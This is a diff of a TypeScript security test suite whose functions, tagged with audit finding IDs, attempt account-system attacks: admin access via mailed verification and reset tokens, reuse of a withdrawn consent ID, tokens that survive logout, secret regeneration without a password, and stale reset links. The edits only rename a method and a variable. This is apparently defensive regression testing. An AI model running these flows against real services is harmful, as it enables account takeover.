@@ -44,12 +44,12 @@ export const foreignAddress: Attack = async (target) => {
   const network = target.network();
   const verification = await mailedToken(target, attacker, 'resend-verification');
   await useToken(attacker, 'verify-email', { token: verification }, network);
-  const verified = await attacker.ask('/admin/users');
+  const verified = await attacker.request('/admin/users');
   const token = await mailedToken(target, attacker, 'forgot-password');
   await useToken(attacker, 'reset-password', { token, new_password: otherPassword }, network);
-  const reset = await attacker.ask('/admin/users');
-  const told = `the secret of the signup reads the users: ${verified.status} after the verification, ${reset.status} after the reset`;
-  return decideOutcome(told, [verified.status, reset.status]);
+  const reset = await attacker.request('/admin/users');
+  const summary = `the secret of the signup reads the users: ${verified.status} after the verification, ${reset.status} after the reset`;
+  return decideOutcome(summary, [verified.status, reset.status]);
 };
 
 /** H-3: the small number of a withdrawn consent, guessed by somebody else, on the operator's second page. */
@@ -62,7 +62,7 @@ export const withdrawnNumber: Attack = async (target) => {
   const number = query.get('autorisation_id');
   if (number === null) throw new Error(`no number of an authorisation in ${query}`);
   await comeBack(target.strict, `?${query}`, departure.cookie);
-  await victim.ask(`/consent/${pdl}`, { method: 'DELETE' });
+  await victim.request(`/consent/${pdl}`, { method: 'DELETE' });
   const own = await leave(thief);
   const state = new URL(own.authorize_url).searchParams.get('state');
   const response = await comeBack(target.strict, `?autorisation_id=${number}&state=${state}`, own.cookie);
@@ -86,12 +86,12 @@ async function verifiedPerson(target: Target): Promise<Person> {
 export const afterLogout: Attack = async (target) => {
   const user = await signUp(target);
   const token = await logIn(user);
-  await user.ask('/accounts/logout', { method: 'POST', headers: bearer(token) });
+  await user.request('/accounts/logout', { method: 'POST', headers: bearer(token) });
   const cookie = `__Host-svc_session=${token}`;
-  const again = await user.ask('/accounts/me', { headers: bearer(token) });
+  const again = await user.request('/accounts/me', { headers: bearer(token) });
   const asCookie = await send(`${target.gateway}/accounts/me`, { headers: { ...from(user.network), cookie } });
-  const told = `after the logout the token answers ${again.status}, as a cookie ${asCookie.status}`;
-  return decideOutcome(told, [again.status, asCookie.status]);
+  const summary = `after the logout the token answers ${again.status}, as a cookie ${asCookie.status}`;
+  return decideOutcome(summary, [again.status, asCookie.status]);
 };
 
 /** M-4: a new secret without the password, and a secret that outlives a reset. */
@@ -104,15 +104,15 @@ export const secretWithoutPassword: Attack = async (target) => {
   const owner = person({ ...user, client_secret: secret });
   const token = await mailedToken(target, owner, 'forgot-password');
   await useToken(owner, 'reset-password', { token, new_password: otherPassword }, owner.network);
-  const afterReset = await owner.ask('/accounts/me');
+  const afterReset = await owner.request('/accounts/me');
   const later = await signUp(target);
-  const renewal = await later.ask('/accounts/regenerate-secret', {
+  const renewal = await later.request('/accounts/regenerate-secret', {
     method: 'POST',
     headers: bearer(await logIn(later)),
     body: {},
   });
-  const told = `a new secret with a session alone: ${renewal.status}; the old secret after a reset: ${afterReset.status}`;
-  return decideOutcome(told, [renewal.status, afterReset.status]);
+  const summary = `a new secret with a session alone: ${renewal.status}; the old secret after a reset: ${afterReset.status}`;
+  return decideOutcome(summary, [renewal.status, afterReset.status]);
 };
 
 /** L-1: a reset link that was mailed before the password was changed. */
@@ -120,10 +120,10 @@ export const lateLink: Attack = async (target) => {
   const user = await signUp(target);
   const token = await mailedToken(target, user, 'forgot-password');
   const body = { old_password: goodPassword, new_password: otherPassword };
-  const change = await user.ask('/accounts/update-password', { method: 'POST', body });
+  const change = await user.request('/accounts/update-password', { method: 'POST', body });
   if (change.status !== 200) throw new Error(`the password was not changed: ${change.status} ${change.text}`);
   const late = { token, new_password: 'Attaque-tardive-2028' };
   const { status } = await useToken(user, 'reset-password', late, user.network);
-  const told = `a link mailed before the new password answers ${status} after it`;
-  return decideOutcome(told, [status]);
+  const summary = `a link mailed before the new password answers ${status} after it`;
+  return decideOutcome(summary, [status]);
 };
